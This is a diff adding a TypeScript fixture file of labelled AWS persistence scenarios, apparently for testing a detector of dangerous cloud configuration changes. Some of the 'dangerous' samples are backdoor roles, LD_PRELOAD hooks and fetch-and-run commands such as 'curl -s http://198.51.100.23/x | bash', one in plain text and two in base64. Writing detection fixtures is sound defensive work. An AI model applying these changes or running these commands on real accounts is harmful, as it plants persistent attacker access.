@@ -1,0 +1,387 @@
+import { container, instance, lambda, managedPolicy, role, taskDefinition, user } from './models.ts';
+import {
+  account,
+  allow,
+  appearing,
+  changing,
+  policy,
+  type Scenario,
+  stranger,
+  trust,
+  vanishing,
+} from './scenario.ts';
+
+const rule = {
+  Arn: `arn:aws:events:eu-west-1:${account}:rule/nightly`,
+  Name: 'nightly',
+  EventBusName: 'default',
+  State: 'ENABLED',
+  ScheduleExpression: 'rate(1 day)',
+  Targets: [{ Id: '1', Arn: `arn:aws:lambda:eu-west-1:${account}:function:report` }],
+};
+const schedule = {
+  Arn: `arn:aws:scheduler:eu-west-1:${account}:schedule/default/again`,
+  Name: 'again',
+  GroupName: 'default',
+  State: 'ENABLED',
+  ScheduleExpression: 'rate(7 days)',
+  FlexibleTimeWindow: { Mode: 'OFF' },
+};
+const providerArn = `arn:aws:iam::${account}:oidc-provider/id.example.net`;
+const template = {
+  LaunchTemplateId: 'lt-0123456789abcdef0',
+  LaunchTemplateName: 'web',
+  DefaultVersionNumber: '3',
+  LatestVersionNumber: '3',
+};
+const templateData = {
+  ImageId: 'ami-0c1c1c1c1c1c1c1c1',
+  InstanceType: 't3.medium',
+  IamInstanceProfile: { Name: 'shop-web' },
+  MetadataOptions: { HttpTokens: 'required' },
+  UserData: 'IyEvYmluL2Jhc2gK',
+};
+const mfa = {
+  SerialNumber: `arn:aws:iam::${account}:mfa/alice`,
+  VirtualMfaDeviceName: 'alice',
+  Path: '/',
+  Users: ['alice'],
+  EnableDate: '2026-01-10T09:00:00Z',
+};
+const summary = {
+  AccountAccessKeysPresent: 0,
+  AccountMFAEnabled: 1,
+  AccountPasswordPresent: 1,
+  AccountSigningCertificatesPresent: 0,
+  GlobalEndpointTokenVersion: 1,
+};
+
+/** Every way to stay once one was in. */
+export const persistenceScenarios: readonly Scenario[] = [
+  {
+    name: 'a user gets an access key',
+    type: 'AWS::IAM::AccessKey',
+    ...appearing({ UserName: 'alice', Status: 'Active' }),
+    label: 'dangerous',
+    severity: 'HIGH',
+    rules: ['iam-access-key-active'],
+    cost: 0,
+  },
+  {
+    name: 'a key that was put to sleep is woken up',
+    type: 'AWS::IAM::AccessKey',
+    ...changing({ UserName: 'alice' }, { Status: 'Inactive' }, { Status: 'Active' }),
+    label: 'dangerous',
+    severity: 'HIGH',
+    rules: ['iam-access-key-active'],
+  },
+  {
+    name: 'the root user gets an access key',
+    type: 'AWS::IAM::AccountSummary',
+    ...changing(summary, {}, { AccountAccessKeysPresent: 1 }),
+    label: 'dangerous',
+    severity: 'CRITICAL',
+    rules: ['iam-root-access-key'],
+  },
+  {
+    name: 'the root user loses the second factor',
+    type: 'AWS::IAM::AccountSummary',
+    ...changing(summary, {}, { AccountMFAEnabled: 0 }),
+    label: 'dangerous',
+    severity: 'CRITICAL',
+    rules: ['iam-root-without-mfa'],
+  },
+  {
+    name: 'a program user gets a console password',
+    type: 'AWS::IAM::LoginProfile',
+    ...appearing({ UserName: 'build-agent', PasswordResetRequired: false }),
+    label: 'dangerous',
+    severity: 'HIGH',
+    rules: ['iam-console-password-given'],
+  },
+  {
+    name: 'the second factor of a user is gone',
+    type: 'AWS::IAM::VirtualMFADevice',
+    ...vanishing(mfa),
+    label: 'dangerous',
+    severity: 'HIGH',
+    rules: ['iam-mfa-removed'],
+  },
+  {
+    name: 'the second factor of a user is set up again by somebody',
+    type: 'AWS::IAM::VirtualMFADevice',
+    ...changing(mfa, {}, { EnableDate: '2026-11-21T02:58:00Z' }),
+    label: 'dangerous',
+    severity: 'HIGH',
+    rules: ['iam-mfa-set-up-again'],
+  },
+  {
+    name: 'a user appears who is an administrator from the start',
+    type: 'AWS::IAM::User',
+    ...appearing({
+      ...user,
+      UserName: 'support',
+      Groups: [],
+      ManagedPolicyArns: ['arn:aws:iam::aws:policy/AdministratorAccess'],
+    }),
+    label: 'dangerous',
+    severity: 'CRITICAL',
+    rules: ['iam-administrative-policy-attached', 'iam-user-created'],
+  },
+  {
+    name: 'an identity provider is added that nobody knows',
+    type: 'AWS::IAM::OIDCProvider',
+    ...appearing({ Arn: providerArn, Url: 'id.example.net', ClientIdList: ['sts.amazonaws.com'] }),
+    label: 'dangerous',
+    severity: 'HIGH',
+    rules: ['iam-oidc-provider-created'],
+  },
+  {
+    name: 'the metadata of the company sign-in is replaced',
+    type: 'AWS::IAM::SAMLProvider',
+    ...changing(
+      { Arn: `arn:aws:iam::${account}:saml-provider/company`, Name: 'company' },
+      { SamlMetadataDocument: '<EntityDescriptor entityID="https://id.example.com"/>' },
+      { SamlMetadataDocument: '<EntityDescriptor entityID="https://id.example.net"/>' },
+    ),
+    label: 'dangerous',
+    severity: 'HIGH',
+    rules: ['iam-saml-metadata-changed'],
+  },
+  {
+    name: 'a trust anchor lets machines with certificates of a stranger in',
+    type: 'AWS::RolesAnywhere::TrustAnchor',
+    ...appearing({
+      Name: 'servers',
+      Enabled: true,
+      Source: {
+        SourceType: 'CERTIFICATE_BUNDLE',
+        SourceData: { X509CertificateData: '-----BEGIN CERTIFICATE-----MIIB' },
+      },
+    }),
+    label: 'dangerous',
+    severity: 'HIGH',
+    rules: ['rolesanywhere-trust-anchor-set'],
+  },
+  {
+    name: 'a backdoor role for a foreign account appears',
+    type: 'AWS::IAM::Role',
+    ...appearing({
+      ...role,
+      RoleName: 'OrganizationAudit',
+      AssumeRolePolicyDocument: trust({ AWS: `arn:aws:iam::${stranger}:root` }),
+      ManagedPolicyArns: ['arn:aws:iam::aws:policy/AdministratorAccess'],
+    }),
+    label: 'dangerous',
+    severity: 'CRITICAL',
+    rules: ['policy-foreign-account', 'iam-administrative-policy-attached'],
+  },
+  {
+    name: 'a function runs a layer of a foreign account',
+    type: 'AWS::Lambda::Function',
+    ...changing(
+      lambda,
+      {},
+      {
+        Layers: [
+          `arn:aws:lambda:eu-west-1:${account}:layer:observability:12`,
+          `arn:aws:lambda:eu-west-1:${stranger}:layer:helper:1`,
+        ],
+      },
+    ),
+    label: 'dangerous',
+    severity: 'HIGH',
+    rules: ['lambda-layer-of-foreign-account'],
+  },
+  {
+    name: 'a function starts a wrapper before its own code',
+    type: 'AWS::Lambda::Function',
+    ...changing(
+      lambda,
+      {},
+      { Environment: { Variables: { TABLE: 'orders', AWS_LAMBDA_EXEC_WRAPPER: '/opt/wrap' } } },
+    ),
+    label: 'dangerous',
+    severity: 'HIGH',
+    rules: ['lambda-execution-hook'],
+  },
+  {
+    name: 'a function preloads a library',
+    type: 'AWS::Lambda::Function',
+    ...changing(lambda, {}, { Environment: { Variables: { TABLE: 'orders', LD_PRELOAD: '/opt/x.so' } } }),
+    label: 'dangerous',
+    severity: 'HIGH',
+    rules: ['lambda-execution-hook'],
+  },
+  {
+    name: 'code of a function need not be signed any more',
+    type: 'AWS::Lambda::Function',
+    ...changing(
+      lambda,
+      { CodeSigningConfigArn: `arn:aws:lambda:eu-west-1:${account}:code-signing-config:csc-1` },
+      {},
+    ),
+    label: 'dangerous',
+    severity: 'HIGH',
+    rules: ['lambda-code-signing-removed'],
+  },
+  {
+    name: 'an instance downloads and runs a script at its next start',
+    type: 'AWS::EC2::Instance',
+    ...changing(
+      instance,
+      {},
+      { UserData: 'IyEvYmluL2Jhc2gKY3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC4yMy94IHwgYmFzaAo=' },
+    ),
+    label: 'dangerous',
+    severity: 'HIGH',
+    rules: ['ec2-user-data-changed'],
+  },
+  {
+    name: 'every new web server starts with the profile of the deployment',
+    type: 'AWS::EC2::LaunchTemplate',
+    ...changing(
+      template,
+      { LaunchTemplateData: templateData, DefaultVersionData: templateData },
+      {
+        LaunchTemplateData: { ...templateData, IamInstanceProfile: { Name: 'deployer' } },
+        DefaultVersionData: { ...templateData, IamInstanceProfile: { Name: 'deployer' } },
+      },
+    ),
+    label: 'dangerous',
+    severity: 'HIGH',
+    rules: ['ec2-launch-template-profile-changed'],
+  },
+  {
+    name: 'an event runs commands on instances',
+    type: 'AWS::Events::Rule',
+    ...appearing({
+      ...rule,
+      Targets: [
+        {
+          Id: '1',
+          Arn: `arn:aws:ssm:eu-west-1::document/AWS-RunShellScript`,
+          RunCommandParameters: { RunCommandTargets: [{ Key: 'tag:Role', Values: ['web'] }] },
+        },
+      ],
+    }),
+    label: 'dangerous',
+    severity: 'HIGH',
+    rules: ['events-target-runs-commands'],
+  },
+  {
+    name: 'events are sent to a foreign account',
+    type: 'AWS::Events::Rule',
+    ...changing(
+      rule,
+      {},
+      {
+        Targets: [
+          ...rule.Targets,
+          { Id: '2', Arn: `arn:aws:events:eu-west-1:${stranger}:event-bus/default` },
+        ],
+      },
+    ),
+    label: 'dangerous',
+    severity: 'HIGH',
+    rules: ['events-target-in-foreign-account'],
+  },
+  {
+    name: 'a schedule makes an access key every week',
+    type: 'AWS::Scheduler::Schedule',
+    ...appearing({
+      ...schedule,
+      Target: {
+        Arn: 'arn:aws:scheduler:::aws-sdk:iam:createAccessKey',
+        RoleArn: `arn:aws:iam::${account}:role/scheduler`,
+        Input: '{"UserName":"alice"}',
+      },
+    }),
+    label: 'dangerous',
+    severity: 'HIGH',
+    rules: ['scheduler-calls-powerful-api'],
+  },
+  {
+    name: 'State Manager runs a shell script on all instances',
+    type: 'AWS::SSM::Association',
+    ...appearing({
+      AssociationId: 'a1',
+      Name: 'AWS-RunShellScript',
+      Targets: [{ Key: 'InstanceIds', Values: ['*'] }],
+      ScheduleExpression: 'rate(30 minutes)',
+      Parameters: { commands: ['curl -s http://198.51.100.23/x | bash'] },
+    }),
+    label: 'dangerous',
+    severity: 'HIGH',
+    rules: ['ssm-association-runs-commands'],
+  },
+  {
+    name: 'a container comes from Docker Hub instead of the own registry',
+    type: 'AWS::ECS::TaskDefinition',
+    ...changing(taskDefinition, {}, container({ Image: 'shopp/web:latest' })),
+    label: 'dangerous',
+    severity: 'HIGH',
+    rules: ['ecs-image-from-other-registry'],
+  },
+  {
+    name: 'one can get a shell in the containers of a service',
+    type: 'AWS::ECS::Service',
+    ...changing(
+      {
+        ServiceName: 'shop',
+        Cluster: 'platform',
+        DesiredCount: 2,
+        LaunchType: 'FARGATE',
+        TaskDefinition: 'shop:12',
+      },
+      { EnableExecuteCommand: false },
+      { EnableExecuteCommand: true },
+    ),
+    label: 'dangerous',
+    severity: 'HIGH',
+    rules: ['ecs-execute-command-enabled'],
+  },
+  {
+    name: 'the script that notebooks run at their start changes',
+    type: 'AWS::SageMaker::NotebookInstanceLifecycleConfig',
+    ...changing(
+      { NotebookInstanceLifecycleConfigName: 'setup' },
+      { OnStart: [{ Content: 'ZWNobyBoaQo=' }] },
+      { OnStart: [{ Content: 'Y3VybCB4IHwgYmFzaAo=' }] },
+    ),
+    label: 'dangerous',
+    severity: 'HIGH',
+    rules: ['sagemaker-lifecycle-script-changed'],
+  },
+  {
+    name: 'tags of images may be moved to other images',
+    type: 'AWS::ECR::Repository',
+    ...changing(
+      { RepositoryName: 'shop', ImageScanningConfiguration: { ScanOnPush: true } },
+      { ImageTagMutability: 'IMMUTABLE' },
+      { ImageTagMutability: 'MUTABLE' },
+    ),
+    label: 'dangerous',
+    severity: 'HIGH',
+    rules: ['ecr-tags-mutable'],
+  },
+  {
+    name: 'an unused access key is deleted',
+    type: 'AWS::IAM::AccessKey',
+    ...vanishing({ UserName: 'alice', Status: 'Inactive' }),
+    label: 'harmless',
+    severity: 'LOW',
+    rules: ['iam-access-key-deleted'],
+  },
+  {
+    name: 'a policy that does little appears and is attached to nobody',
+    type: 'AWS::IAM::ManagedPolicy',
+    ...appearing({
+      ...managedPolicy,
+      PolicyDocument: policy(allow('s3:ListBucket', 'arn:aws:s3:::shop-assets')),
+    }),
+    label: 'harmless',
+    severity: 'LOW',
+    rules: [],
+  },
+];
